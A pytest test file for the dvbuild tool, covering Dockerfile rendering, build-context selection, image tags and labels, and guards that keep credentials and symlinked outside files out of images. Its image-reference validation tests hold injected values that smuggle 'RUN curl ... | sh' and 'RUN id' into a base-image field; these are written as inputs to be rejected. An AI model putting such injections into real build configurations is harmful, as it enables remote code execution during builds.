"""Dockerfile choice and rendering, build context (buildcontext.py), tags and labels:
no engine needed."""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest

from dvbuild.errors import ConfigError
from dvbuild.image import build as image
from dvbuild.image import context as buildcontext
from dvbuild.image import dockerfile as image_dockerfile
from dvbuild.image import naming as image_naming
from dvbuild.image import plan as image_plan
from dvbuild.package import load_package
from dvbuild.settings import load_settings
from tests.conftest import Repo, Result


def render(**overrides: object) -> str:
    args: dict[str, object] = dict(
        name="hello", path="packages/hello", base_image="python:3.11-slim",
        wheel="dvbuild-0.1.0-py3-none-any.whl", extras=["s3"], apt=False, ca=True,
        commit="c" * 40, input_hash="f" * 64, labels={"io.dvbuild.package": "hello"},
    )
    args.update(overrides)
    return image_dockerfile.render_dockerfile(**args)  # type: ignore[arg-type]


def instructions(dockerfile: str) -> list[str]:
    """The instruction keywords, in order (continuation lines folded)."""
    text = dockerfile.replace("\\\n", " ")
    return [line.split()[0] for line in text.splitlines() if line.strip() and not line.startswith("#")]


def test_layers_run_from_base_to_package_files() -> None:
    text = render(apt=True, uv_image="dvbuild-uv:0.9.0")
    steps = instructions(text)
    assert steps == ["FROM", "ENV", "COPY", "RUN", "RUN", "COPY", "COPY", "COPY", "RUN", "COPY", "RUN",
                     "WORKDIR", "USER", "ENTRYPOINT", "COPY", "ENV", "LABEL"]
    order = [text.index(s) for s in ("FROM python:3.11-slim", "COPY .dvbuild/apt.txt",
                                     "COPY --from=dvbuild-uv:0.9.0 /uv /usr/local/bin/uv",
                                     "COPY .dvbuild/requirements.lock",
                                     "-r /opt/dvbuild/build/requirements.lock",
                                     "COPY .dvbuild/dvbuild-0.1.0", "--no-deps",
                                     "COPY --chown=10001:10001 repo/ /app/", "LABEL")]
    assert order == sorted(order)
    assert "HEALTHCHECK" not in text
    assert 'ENTRYPOINT ["dvbuild", "run", "/app/packages/hello"]' in text
    assert "USER 10001" in text and "WORKDIR /app/packages/hello" in text
    assert "SSL_CERT_FILE=/opt/dvbuild/build/ca-certificates.crt" in text
    assert "pip install" not in text.replace("uv pip install", "")  # uv installs everything
    assert "ARG" not in text  # no index configured: uv's default


def test_no_apt_step_without_apt_txt_and_no_ca_without_bundle() -> None:
    text = render(apt=False, ca=False, extras=[])
    assert "apt-get" not in text
    assert "SSL_CERT_FILE" not in text and "ca-certificates.crt" not in text
    assert '"/opt/dvbuild/build/dvbuild-0.1.0-py3-none-any.whl"' in text


def test_the_hosts_index_is_a_build_arg_not_text() -> None:
    text = render(index=True)
    assert "ARG UV_DEFAULT_INDEX\n" in text
    assert text.index("ARG UV_DEFAULT_INDEX") < text.index("-r /opt/dvbuild/build/requirements.lock")


def test_index_url_from_the_hosts_configuration(tmp_path: Path) -> None:
    from dvbuild.image import installer

    home = {"HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path / "cfg")}
    assert installer.index_url({**home, "UV_DEFAULT_INDEX": "https://uv.example/simple"}) == \
        "https://uv.example/simple"
    assert installer.index_url({**home, "PIP_INDEX_URL": "file:///opt/pypi/simple"}) is None
    (tmp_path / "pip.conf").write_text("[global]\nindex-url = https://pip.example/simple\n")
    assert installer.index_url({**home, "PIP_CONFIG_FILE": str(tmp_path / "pip.conf")}) == \
        "https://pip.example/simple"
    (tmp_path / "cfg/uv").mkdir(parents=True)
    (tmp_path / "cfg/uv/uv.toml").write_text('[[index]]\nurl = "https://toml.example/simple"\n'
                                             "default = true\n")
    assert installer.index_url(home) in ("https://toml.example/simple", "https://pip.example/simple")
    with pytest.raises(ConfigError, match="credentials"):
        installer.index_url({"PIP_INDEX_URL": "https://user:token@pip.example/simple"})


def test_labels_and_build_ids_come_last_and_quoted() -> None:
    text = render(labels={"org.opencontainers.image.description": 'say "hi" for $5\nnow'},
                  image_ref="r.io/team/hello:" + "f" * 64)
    tail = text[text.index("ENV DVBUILD_COMMIT"):]
    assert 'DVBUILD_COMMIT="' + "c" * 40 + '"' in tail
    assert 'DVBUILD_IMAGE_REF="r.io/team/hello:' + "f" * 64 + '"' in tail  # what dvbuild run records
    assert "DVBUILD_IMAGE_REF" not in render()
    assert r'org.opencontainers.image.description="say \"hi\" for \$5 now"' in tail
    assert "COPY" not in tail and "RUN" not in tail


def test_dockerquote() -> None:
    assert image_dockerfile.dockerquote('a "b" \\ $c') == r'"a \"b\" \\ \$c"'
    assert image_dockerfile.dockerquote("two\nlines") == '"two lines"'


@pytest.mark.parametrize(("path", "patterns", "expected"), [
    ("notes.md", ["*.md"], True),
    ("docs/notes.md", ["*.md"], False),
    ("docs/notes.md", ["**/*.md"], True),
    ("docs/notes.md", ["docs"], True),
    ("data/raw/big.csv", ["data/*"], True),
    ("keep.md", ["*.md", "!keep.md"], False),
    ("keep.md", ["!keep.md", "*.md"], True),
    ("a/b/c.txt", ["a/**/c.txt"], True),
    ("x1.csv", ["x[0-9].csv"], True),
    ("xa.csv", ["x[!0-9].csv"], True),
    ("main.ipynb", ["*.md"], False),
])
def test_dockerignore_rules(path: str, patterns: list[str], expected: bool) -> None:
    assert buildcontext.ignored(path, buildcontext.dockerignore_patterns("\n".join(patterns))) is expected


def test_dockerignore_file_syntax() -> None:
    text = "# comment\n\n/out\n  ./tmp/  \n!keep\n"
    assert buildcontext.dockerignore_patterns(text) == ["out", "tmp", "!keep"]


def test_split_ref() -> None:
    from dvbuild.adapters.docker import split_ref

    assert split_ref("127.0.0.1:5000/team/a:abc") == ("127.0.0.1:5000/team/a", "abc")
    assert split_ref("127.0.0.1:5000/team/a") == ("127.0.0.1:5000/team/a", "latest")
    assert split_ref("a:1") == ("a", "1")
    digest = "sha256:" + "d" * 64
    assert split_ref(f"127.0.0.1:5000/team/a@{digest}") == ("127.0.0.1:5000/team/a", digest)
    assert split_ref(f"127.0.0.1:5000/team/a:abc@{digest}") == ("127.0.0.1:5000/team/a", digest)


# ---- against a real git repository ------------------------------------------------------


@pytest.fixture
def repo(make_repo: Callable[..., Repo]) -> Repo:
    r = make_repo(commit=False)
    r.write("dvbuild.yaml", "registry: registry.example.invalid/team\nbase_image: debian:12\n")
    r.write_package("packages/hello", "hello", title="Hello", version="2.0.0",
                    depends_on=["shared/lib"])
    r.write("packages/hello/main.ipynb", "{}")
    r.write("packages/hello/requirements.txt", "six\n")
    r.write("packages/hello/.dockerignore", "*.md\n")
    r.write("packages/hello/README.md", "docs\n")
    r.write("packages/hello/.gitignore", "out/\n")
    r.write("packages/hello/out/result.csv", "a\n1\n")
    r.write("packages/hello/.env", "TOKEN=secret\n")
    r.write("packages/hello/key.pem", "-----BEGIN PRIVATE KEY-----\n")
    r.write("shared/lib/util.py", "X = 1\n")
    r.write("shared/other/unrelated.py", "Y = 1\n")
    r.write("packages/other/datapackage.json", json.dumps({"name": "other"}))
    r.commit("initial")
    return r


@pytest.fixture(autouse=True)
def fake_lock(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, str]]:
    """The lock notebooks/envs.py resolves (that module's own tests resolve for real)."""
    calls: list[tuple[str, str]] = []

    def lock(settings: object, package: object) -> str:
        calls.append((getattr(package, "name", ""), image_plan.image_python(settings, package)))  # type: ignore[arg-type]
        return "six==1.16.0\n"

    monkeypatch.setattr(image_plan, "package_lock", lock)
    return calls


def settings_of(repo: Repo, **environ: str):  # type: ignore[no-untyped-def]
    return load_settings(repo.path, environ=environ)


def test_context_is_the_package_and_its_depends_on_only(repo: Repo) -> None:
    settings = settings_of(repo)
    package = load_package(repo.path / "packages/hello", repo.path)
    assert buildcontext.package_files(settings, package) == [
        "dvbuild.yaml", "packages/hello/.dockerignore", "packages/hello/.gitignore",
        "packages/hello/datapackage.json", "packages/hello/main.ipynb",
        "packages/hello/requirements.txt", "shared/lib/util.py",
    ]


def test_plan_tags_labels_and_context_tar(repo: Repo, tmp_path: Path) -> None:
    settings = settings_of(repo, GITHUB_REPOSITORY="team/data", GITHUB_SERVER_URL="https://github.com")
    package = load_package(repo.path / "packages/hello", repo.path)
    wheel = tmp_path / "dvbuild-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"wheel")
    t = image_plan.target(settings, package)
    p = image_plan.plan(settings, t, wheel)
    assert t.commit == repo.head and not t.dirty
    assert t.tags == [f"registry.example.invalid/team/hello:{t.input_hash}",
                      f"registry.example.invalid/team/hello:{repo.head}"]
    assert image_naming.image_ref(settings, package) == t.tags[0]
    assert p.labels["org.opencontainers.image.source"] == "https://github.com/team/data"
    assert p.labels["org.opencontainers.image.revision"] == repo.head
    assert p.labels["org.opencontainers.image.version"] == "2.0.0"
    assert p.labels["io.dvbuild.input-hash"] == t.input_hash
    assert p.dockerfile_source == "template" and "FROM debian:12" in p.dockerfile
    buf = io.BytesIO()
    buildcontext.context_tar(p.files, buf)
    with tarfile.open(fileobj=buf) as tar:
        names = tar.getnames()
        assert all(m.mtime == 0 and m.uid == 0 for m in tar.getmembers())
        lock = tar.extractfile(".dvbuild/requirements.lock")
        assert lock is not None and lock.read() == b"six==1.16.0\n"
    assert names[0] == "Dockerfile" and ".dvbuild/dvbuild-0.1.0-py3-none-any.whl" in names
    assert "repo/packages/hello/main.ipynb" in names
    assert not any("secret" in n or ".env" in n or ".pem" in n or "README" in n for n in names)


def test_same_inputs_give_the_same_context_bytes(repo: Repo, tmp_path: Path) -> None:
    settings = settings_of(repo)
    package = load_package(repo.path / "packages/hello", repo.path)
    wheel = tmp_path / "dvbuild-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"wheel")
    tars = []
    for _ in range(2):
        files = [f for f in image_plan.plan(settings, image_plan.target(settings, package), wheel).files
                 if f.arcname != "Dockerfile"]  # the Dockerfile carries the build time
        buf = io.BytesIO()
        buildcontext.context_tar(files, buf)
        tars.append(buf.getvalue())
    assert tars[0] == tars[1]


def test_own_dockerfile_wins(repo: Repo, tmp_path: Path) -> None:
    repo.write("packages/hello/Dockerfile", "FROM scratch\nCOPY repo/ /\n")
    repo.commit("own")
    settings = settings_of(repo)
    package = load_package(repo.path / "packages/hello", repo.path)
    wheel = tmp_path / "dvbuild-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"wheel")
    p = image_plan.plan(settings, image_plan.target(settings, package), wheel)
    assert p.own and p.dockerfile_source == "packages/hello/Dockerfile"
    assert p.dockerfile.startswith("FROM scratch")


def test_base_image_and_extras_per_package(repo: Repo) -> None:
    settings = settings_of(repo)
    repo.write_package("packages/hello", "hello", docker={"base_image": "python:3.12-slim", "extras": []})
    package = load_package(repo.path / "packages/hello", repo.path)
    assert image_dockerfile.base_image(settings, package) == "python:3.12-slim"
    assert image_dockerfile.extras(package) == []
    other = load_package(repo.path / "packages/other", repo.path)
    assert image_dockerfile.base_image(settings, other) == "debian:12"
    assert image_dockerfile.extras(other) == ["s3", "elastic"]


@pytest.mark.parametrize(("ref", "ok"), [
    ("python:3.11-slim", True), ("debian:12", True), ("localhost:5000/team/base:1", True),
    ("ghcr.io/org/base:1.0@sha256:" + "a" * 64, True), ("[::1]:5000/base", True),
    ("python:3.11-slim\nRUN curl https://x.invalid | sh", False), ("python:3.11 AS x", False),
    ("Python:3", False), ("", False), (5, False), (None, False), ("--platform=x python", False),
    ("python:${TAG}", False), ("a" * 600, False),
])
def test_image_references(ref: object, ok: bool) -> None:
    assert (image_naming.reference_problem(ref) is None) is ok


@pytest.mark.parametrize(("docker", "pointer"), [
    ({"base_image": "python:3.11-slim\nRUN id"}, "/docker/base_image"),
    ({"base_image": ""}, "/docker/base_image"),
    ({"extras": ["s3", "evil"]}, "/docker/extras/1"),
    ({"extras": "s3"}, "/docker/extras"),
    ([], "/docker"),
])
def test_docker_settings_are_refused_before_the_dockerfile(repo: Repo, docker: object,
                                                          pointer: str) -> None:
    settings = settings_of(repo)
    repo.write_package("packages/hello", "hello", docker=docker)
    package = load_package(repo.path / "packages/hello", repo.path)
    with pytest.raises(ConfigError) as e:
        image_dockerfile.base_image(settings, package)
    assert [p.pointer for p in e.value.problems] == [pointer]


def test_base_image_of_dvbuild_yaml_is_checked(repo: Repo) -> None:
    repo.write("dvbuild.yaml", 'base_image: "python:3.11\\nRUN id"\n')
    with pytest.raises(ConfigError) as e:
        load_settings(repo.path, environ={})
    assert [(p.file, p.pointer) for p in e.value.problems] == [("dvbuild.yaml", "/base_image")]
    repo.write("dvbuild.yaml", "")
    settings = load_settings(repo.path, environ={"DVBUILD_BASE_IMAGE": "a b"})
    package = load_package(repo.path / "packages/other", repo.path)
    with pytest.raises(ConfigError, match="base_image 'a b' is not an image reference"):
        image_dockerfile.base_image(settings, package)


def test_extras_are_dvbuilds_own() -> None:
    import tomllib

    pyproject = tomllib.loads((Path(__file__).parents[1] / "pyproject.toml").read_text())
    extras = set(pyproject["project"]["optional-dependencies"]) - {"test", "dev"}
    assert set(image_dockerfile.EXTRAS) == extras


def test_dirty_work_tree_tags_the_working_tree_content(repo: Repo) -> None:
    settings = settings_of(repo)
    package = load_package(repo.path / "packages/hello", repo.path)
    clean = image_plan.target(settings, package)
    repo.write("packages/hello/main.ipynb", '{"changed": true}')
    t = image_plan.target(settings, package)
    assert t.dirty == ("packages/hello/main.ipynb",)
    assert t.input_hash != clean.input_hash
    assert t.tags == [f"registry.example.invalid/team/hello:{t.input_hash}",
                      f"registry.example.invalid/team/hello:{repo.head}-dirty"]
    repo.commit("now committed")
    assert image_plan.target(settings, package).input_hash == t.input_hash


def test_depends_on_globs_select_context_files(repo: Repo) -> None:
    repo.write_package("packages/hello", "hello", depends_on=["shared/**/*.py", "*.cfg"])
    repo.write("setup.cfg", "[x]\n")
    repo.write("shared/lib/notes.txt", "no\n")
    repo.commit("globs")
    settings = settings_of(repo)
    package = load_package(repo.path / "packages/hello", repo.path)
    files = buildcontext.package_files(settings, package)
    assert "shared/lib/util.py" in files and "shared/other/unrelated.py" in files
    assert "setup.cfg" in files and "shared/lib/notes.txt" not in files


def test_pull_request_revision_is_the_head_commit(repo: Repo, tmp_path: Path) -> None:
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {"head": {"sha": "a" * 40}}}))
    settings = settings_of(repo, GITHUB_EVENT_NAME="pull_request", GITHUB_EVENT_PATH=str(event))
    assert image_plan.head_commit(settings) == "a" * 40


def test_source_url_never_carries_credentials(repo: Repo) -> None:
    repo.git("remote", "add", "origin", "https://x-access-token:ghs_secret@github.com/team/data.git")
    assert image_plan.source_url(settings_of(repo)) == "https://github.com/team/data.git"


def test_registry_auth_from_environment() -> None:
    assert image.registry_auth({}) is None
    auth = image.registry_auth({"DVBUILD_REGISTRY_USERNAME": "u", "DVBUILD_REGISTRY_PASSWORD": "pw-123"})
    assert auth == {"username": "u", "password": "pw-123"}
    from dvbuild import console

    assert console.redact("login pw-123") == "login ***"


# ---- the command --------------------------------------------------------------------


def test_dry_run_prints_dockerfile_and_context(cli: Callable[..., Result], repo: Repo) -> None:
    result = cli("build", "--repo", repo.path, "--dry-run", repo.path / "packages/hello")
    assert result.code == 0, result.err
    assert "FROM debian:12" in result.out
    assert "#   repo/packages/hello/main.ipynb" in result.out
    assert "README.md" not in result.out


def test_dry_run_json(cli: Callable[..., Result], repo: Repo) -> None:
    result = cli("build", "--repo", repo.path, "--dry-run", "--json")
    assert result.code == 0, result.err
    docs = {d["package"]: d for d in result.json()["packages"]}
    assert set(docs) == {"hello", "other"}
    assert docs["hello"]["status"] == "planned"
    assert "Dockerfile" in docs["hello"]["context"]
    assert docs["hello"]["dockerfile"].startswith("# Rendered by dvbuild")


def test_no_engine_fails_each_package_with_exit_1(cli: Callable[..., Result], repo: Repo,
                                                  tmp_path: Path) -> None:
    result = cli("build", "--repo", repo.path, "--json",
                 env={"DOCKER_HOST": f"unix://{tmp_path}/no-such.sock"})
    assert result.code == 1
    docs = result.json()["packages"]
    assert [d["status"] for d in docs] == ["failed", "failed"]
    assert "no Docker engine answers" in docs[0]["error"]
    assert "Traceback" not in result.err


def test_engine_available_false_without_engine(repo: Repo, tmp_path: Path) -> None:
    settings = settings_of(repo, DOCKER_HOST=f"unix://{tmp_path}/no-such.sock")
    assert image.engine_available(settings) is False


def test_push_without_registry_is_a_usage_error(cli: Callable[..., Result],
                                                make_repo: Callable[..., Repo]) -> None:
    r = make_repo(commit=False)
    r.write_package("p", "p")
    r.commit()
    result = cli("build", "--repo", r.path, "--push")
    assert result.code == 2
    assert "registry" in result.err


def test_build_stream_keeps_the_failing_step_in_plain_text() -> None:
    from dvbuild.adapters.docker import BuildFailed, _follow_build

    events = [
        {"stream": "Step 1/2 : FROM base\n"}, {"stream": " ---> abc\n"},
        {"stream": "Step 2/2 : RUN pip install -r r.txt\n ---> Running in x\n"},
        {"stream": "\x1b[91mERROR: No matching distribution found for nope\n\x1b[0m"},
        {"error": "The command '/bin/sh -c pip install' returned a non-zero code: 1"},
    ]
    lines: list[str] = []
    with pytest.raises(BuildFailed) as caught:
        _follow_build(events, lines.append)
    assert caught.value.step == ["Step 2/2 : RUN pip install -r r.txt", " ---> Running in x",
                                 "ERROR: No matching distribution found for nope"]
    assert lines[0] == "Step 1/2 : FROM base" and "\x1b" not in "".join(lines)


def test_apt_sources_for_debootstrap() -> None:
    from tests.services.docker import _deb822, _one_line_sources

    deb822 = ("Types: deb\n# comment\nURIs: http://mirror.example.invalid/debian\n"
              "Suites: bookworm bookworm-updates\nComponents: main\n\n"
              "Types: deb\nURIs: http://mirror.example.invalid/debian-security\n"
              "Suites: bookworm-security\n")
    stanzas = _deb822(deb822)
    assert stanzas[0]["uris"] == "http://mirror.example.invalid/debian"
    assert stanzas[0]["suites"].split()[0] == "bookworm"
    legacy = _one_line_sources("deb [arch=amd64] http://mirror.example.invalid/debian bookworm main\n")
    assert legacy == [{"types": "deb", "uris": "http://mirror.example.invalid/debian",
                       "suites": "bookworm"}]


# --- links out of the package folder (or, for depends_on, the monorepo) are refused ---

OUTSIDE = "outside-the-repository: not for the image\n"


def _outside(repo: Repo) -> Path:
    secret = repo.path.parent / "outside.txt"
    secret.write_text(OUTSIDE)
    return secret


@pytest.mark.parametrize("link", ["packages/hello/notes.txt", "packages/hello/lib/x.py",
                                  "packages/hello/requirements.txt", "shared/lib/link.py"])
def test_a_tracked_link_out_never_reaches_the_context(repo: Repo, cli: Callable[..., Result],
                                                      tmp_path: Path, link: str) -> None:
    import os

    secret = _outside(repo)
    (repo.path / link).parent.mkdir(parents=True, exist_ok=True)
    (repo.path / link).unlink(missing_ok=True)
    os.symlink(secret, repo.path / link)
    repo.commit("a link out")
    settings = settings_of(repo)
    package = load_package(repo.path / "packages/hello", repo.path)
    wheel = tmp_path / "dvbuild-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"wheel")
    with pytest.raises(ConfigError, match="through a symbolic link") as e:
        image_plan.plan(settings, image_plan.target(settings, package), wheel)
    assert [p.file for p in e.value.problems] == [link]
    where = "repository" if link.startswith("shared/") else "folder"
    assert f"leaves the {where} through a symbolic link" in str(e.value)
    with pytest.raises(ConfigError):  # before anything is built, dry run or not
        image.build_packages(settings, [package], dry_run=True)
    res = cli("build", "--dry-run", "--repo", repo.path, repo.path / "packages/hello")
    assert res.code == 2 and link in res.err and "Traceback" not in res.err
    found = cli("validate", "--json", "--repo", repo.path, "packages/hello").json()["problems"]
    assert link in {p["file"] for p in found}


def test_a_link_inside_the_package_carries_its_content(repo: Repo, cli: Callable[..., Result],
                                                       tmp_path: Path) -> None:
    import os

    _outside(repo)
    repo.write("packages/hello/data/real.csv", "a\n1\n")
    os.symlink("data/real.csv", repo.path / "packages/hello/alias.csv")
    repo.commit("a link inside")
    settings = settings_of(repo)
    package = load_package(repo.path / "packages/hello", repo.path)
    wheel = tmp_path / "dvbuild-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"wheel")
    p = image_plan.plan(settings, image_plan.target(settings, package), wheel)
    buf = io.BytesIO()
    buildcontext.context_tar(p.files, buf)
    with tarfile.open(fileobj=buf) as tar:
        alias = tar.extractfile("repo/packages/hello/alias.csv")
        assert alias is not None and alias.read() == b"a\n1\n"
        contents = b"".join(f.read() for m in tar.getmembers()
                            if (f := tar.extractfile(m)) is not None)
    assert OUTSIDE.encode() not in contents
    res = cli("build", "--dry-run", "--repo", repo.path, repo.path / "packages/hello",
              env={"DVBUILD_WHEEL": str(wheel)})
    assert res.code == 0 and "repo/packages/hello/alias.csv" in res.out


def test_the_lock_is_resolved_for_the_base_images_python(repo: Repo, tmp_path: Path,
                                                         fake_lock: list[tuple[str, str]]) -> None:
    wheel = tmp_path / "dvbuild-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"wheel")
    package = load_package(repo.path / "packages/hello", repo.path)
    image_plan.plan(settings_of(repo), image_plan.target(settings_of(repo), package), wheel)
    settings = settings_of(repo, DVBUILD_BASE_IMAGE="python:3.12-slim")
    assert image_plan.image_python(settings, package) in ("3.11", "3.12")  # dvbuild.yaml's wins
    repo.write("dvbuild.yaml", "base_image: docker.io/library/python:3.13-slim-bookworm\n")
    assert image_plan.image_python(settings_of(repo), package) == "3.13"
    assert fake_lock == [("hello", "3.11")]  # debian:12


def test_a_test_run_in_an_image_gets_only_what_its_secrets_name(repo: Repo) -> None:
    from dvbuild.image.testrun import passed_environ

    repo.write_package("packages/sec", "sec", secrets={"DB": "env:PROD_DB", "API": "vault:kv/x#k"})
    package = load_package(repo.path / "packages/sec", repo.path)
    environ = {"PROD_DB": "pw", "VAULT_ADDR": "https://vault", "GITHUB_TOKEN": "t", "HOME": "/root",
               "DVBUILD_READ_FIRST": "file:///out/.upstream"}
    assert passed_environ(environ, package) == {
        "DVBUILD_READ_FIRST": "file:///out/.upstream", "PROD_DB": "pw", "VAULT_ADDR": "https://vault"}


def test_a_production_run_in_an_image_gets_credentials_run_context_and_profile(
    tmp_path: Path,
) -> None:
    from dvbuild.image.prodrun import passed

    (tmp_path / ".aws").mkdir()
    (tmp_path / ".aws/credentials").write_text("[team]\n")
    environ = {"AWS_ACCESS_KEY_ID": "AKIAEXAMPLE", "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI-example",
               "AWS_PROFILE": "team", "DVBUILD_S3_JOBS": "4", "DVBUILD_CATALOG_API_KEY": "",
               "GITHUB_RUN_ID": "9", "GITHUB_REPOSITORY": "navikt/team", "GITHUB_ACTIONS": "true",
               "GITHUB_TOKEN": "ghs_token", "DOCKER_HOST": "unix:///x", "PATH": "/bin",
               "HOME": str(tmp_path), "DVBUILD_READ_FIRST": "file:///out/.upstream"}
    assert passed(environ) == {
        "AWS_ACCESS_KEY_ID": "AKIAEXAMPLE", "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI-example",
        "AWS_PROFILE": "team", "DVBUILD_S3_JOBS": "4", "GITHUB_RUN_ID": "9",
        "GITHUB_REPOSITORY": "navikt/team",
        "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / ".aws/credentials")}  # no config file


def test_files_the_environment_names_are_mounted_read_only(tmp_path: Path) -> None:
    from dvbuild.errors import UsageError
    from dvbuild.image.container import with_files

    bundle = tmp_path / "ca.pem"
    bundle.write_text("-----BEGIN CERTIFICATE-----\n")
    env, files = with_files({"AWS_CA_BUNDLE": str(bundle), "AWS_REGION": "eu-north-1"})
    assert env == {"AWS_CA_BUNDLE": str(bundle), "AWS_REGION": "eu-north-1"}
    assert files == {str(bundle): str(bundle)}
    with pytest.raises(UsageError, match="AWS_WEB_IDENTITY_TOKEN_FILE=/no/token: no such file"):
        with_files({"AWS_WEB_IDENTITY_TOKEN_FILE": "/no/token"})


def test_run_in_an_image_refuses_bad_input_before_the_engine(
    cli: Callable[..., Result], repo: Repo, tmp_path: Path,
) -> None:
    """Exit 2 with what to fix; no engine answers at DOCKER_HOST, and none is asked."""
    folder = repo.path / "packages/hello"
    pinned = "registry.example.invalid/team/hello@sha256:" + "d" * 64
    nowhere = {"DOCKER_HOST": f"unix://{tmp_path / 'no.sock'}"}
    both = cli("run", folder, "--image", pinned, "--test", env=nowhere)
    assert both.code == 2 and "--test and --image together" in both.err
    missing = cli("run", folder, "--image", pinned, env={**nowhere, "AWS_CA_BUNDLE": "/no/ca.pem"})
    assert missing.code == 2 and "AWS_CA_BUNDLE=/no/ca.pem: no such file" in missing.err
    repo.write_package("packages/hello", "hello", job={"env": {"1BAD": "x"}})
    bad = cli("run", folder, "--image", pinned, env=nowhere)
    assert bad.code == 2 and "datapackage.json /job/env: env name '1BAD' is not valid" in bad.err
    assert "Docker" not in both.err + missing.err + bad.err
